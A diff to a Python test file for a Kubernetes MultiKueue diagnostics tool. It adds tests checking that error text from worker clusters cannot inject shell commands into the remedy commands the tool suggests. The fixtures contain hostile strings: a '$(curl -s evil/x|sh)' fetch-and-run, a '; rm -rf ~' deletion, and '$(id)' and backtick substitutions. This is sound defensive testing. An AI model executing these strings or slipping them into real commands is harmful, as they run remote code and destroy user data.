@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import string
+
 import pytest
 
 from multikueued.reports.check_remedies import CHECK_RULES, MANAGER_RULES
-from multikueued.reports.remedies import Rule, found_by
+from multikueued.reports.remedies import Rule, filled, found_by
 from multikueued.reports.remedy_table import WORKER_RULES, about_worker
 
 CONTEXT = {
@@ -95,11 +97,6 @@ CHECKS = [
         "not-delegated",
         'The owner is not managed by Kueue: Expecting spec.managedBy to be "k" not "", Previously: "Pending"',
     ),
-    (
-        "kind-not-enabled",
-        "Jobs of this kind are not dispatched, and this one is off until multikueue retry: "
-        'add "batch/job" to integrations.frameworks',
-    ),
     ("not-delegated", 'Expecting spec.managedBy to be "k" not "": create the job again with that value, or enable it'),
     (
         "acted-on-here",
@@ -133,7 +130,7 @@ MANAGER = [
     ],
 )
 def test_words_lead_to_their_row(rules: tuple[Rule, ...], expected: str, told: str) -> None:
-    found = found_by(rules, "w1", told, CONTEXT)
+    found = found_by(rules, "w1", told, CONTEXT, own=True)
 
     assert found is not None
     assert found.id == expected
@@ -152,7 +149,9 @@ def test_every_row_is_reached(rules: tuple[Rule, ...], rows: list[tuple[str, str
 
 
 def test_the_setting_for_a_kind_is_named() -> None:
-    found = found_by(CHECK_RULES, "x", 'No multikueue adapter found for owner kind "ray.io/v1, Kind=RayJob"', CONTEXT)
+    found = found_by(
+        CHECK_RULES, "x", 'No multikueue adapter found for owner kind "ray.io/v1, Kind=RayJob"', CONTEXT, own=True
+    )
     assert found is not None
     assert 'add "ray.io/rayjob" to integrations.frameworks' in found.remedy
 
@@ -164,3 +163,60 @@ def test_words_that_nobody_knows() -> None:
     away = about_worker("w1", "the moon is in the wrong house", CONTEXT, connected=False)
     assert away.id == "worker-not-connected"
     assert "retry" not in away.remedy
+
+
+def worded(text: str, own: bool) -> str:
+    return about_worker("w1", text, CONTEXT, own=own).remedy
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        'workloads is forbidden: Secret "oslo$(curl -s evil/x|sh)" not found',
+        'key "x" not found in secret "y; rm -rf ~"',
+        'ClusterProfile "$(id)" cannot be read: x',
+        'cluster profile: no matching cluster accessor found for cluster profile "`id`"',
+        "load client config failed: MultiKueueClusterProfile feature gate is disabled",
+        "cordoned",
+    ],
+)
+def test_what_a_worker_says_never_meets_a_row_about_our_configuration(told: str) -> None:
+    """A worker that answered 403 with such a text had `status` and `explain` print its command to paste."""
+    found = about_worker("w1", told, CONTEXT)
+    own = {rule.id for rule in WORKER_RULES if rule.own}
+    assert found.id not in own
+    for text in ("curl", "rm -rf", "$(", "`"):
+        assert text not in found.remedy
+
+
+@pytest.mark.parametrize(
+    "name", ["--all", "-A", "a b", "a;b", "$(id)", "`id`", "a|b", "a\nb", "..", "", "a" * 254, "é", "\u202ea"]
+)
+def test_what_is_no_name_enters_no_command(name: str) -> None:
+    told = f'LocalQueue "{name}" is inactive'
+    found = found_by(WORKER_RULES, "w1", told, CONTEXT)
+    assert found is None or name in ("", "a\nb") or name not in found.remedy.split()
+    for template in ("kubectl get {name}", "multikueue retry {name}"):
+        remedy = filled(template, {"name": name})
+        assert remedy in (
+            template.format(name=""),
+            "mend what it names; no command is shown, as a name in these words is none that Kubernetes allows",
+        )
+
+
+@pytest.mark.parametrize("name", ["train", "job/train", "job.batch/train-1", "Team.x_y"])
+def test_names_enter_commands_as_they_are(name: str) -> None:
+    assert filled("multikueue retry {job}", {"job": name}) == f"multikueue retry {name}"
+
+
+@pytest.mark.parametrize("rules", [WORKER_RULES, CHECK_RULES, MANAGER_RULES])
+def test_no_row_puts_whole_sentences_into_its_remedy(rules: tuple[Rule, ...]) -> None:
+    """But the setting of a kind, which is ours."""
+    fields = {field for rule in rules for _, field, _, _ in string.Formatter().parse(rule.remedy) if field}
+    assert not fields & {"told", "said", "why"}
+
+
+def test_an_event_is_no_word_of_ours() -> None:
+    """Whoever may write events writes any `reportingController`."""
+    forged = 'No multikueue adapter found for owner kind "$(id)/v1, Kind=X"'
+    assert found_by(CHECK_RULES, "x", forged, CONTEXT) is None
